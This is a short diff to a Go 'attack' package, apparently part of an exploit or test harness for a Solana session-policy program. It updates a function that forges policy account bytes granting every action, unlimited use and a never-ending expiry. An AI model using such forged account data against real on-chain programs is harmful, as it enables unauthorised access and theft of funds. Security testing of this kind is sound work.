@@ -3,6 +3,7 @@ package attack
 import (
 	"crypto/sha256"
 	"encoding/binary"
+	"math"
 
 	"castlekey/onchain"
 	"castlekey/onchain/program"
@@ -17,13 +18,14 @@ func tag(account string) []byte {
 	return sum[:8]
 }
 
-// policyData lays out a policy that limits nothing.
+// policyData lays out a policy that limits nothing and never ends.
 func policyData(a onchain.Actor, authority solana.PublicKey) []byte {
 	d := make([]byte, policySize)
 	copy(d, tag("SessionPolicy"))
-	d[8] = 1
+	d[8] = 2
 	binary.LittleEndian.PutUint16(d[12:], uint16(onchain.ActAll))
 	binary.LittleEndian.PutUint32(d[16:], ^uint32(0))
+	binary.LittleEndian.PutUint64(d[24:], math.MaxInt64)
 	copy(d[32:], authority[:])
 	copy(d[64:], a.Token[:])
 	copy(d[96:], a.Signer[:])
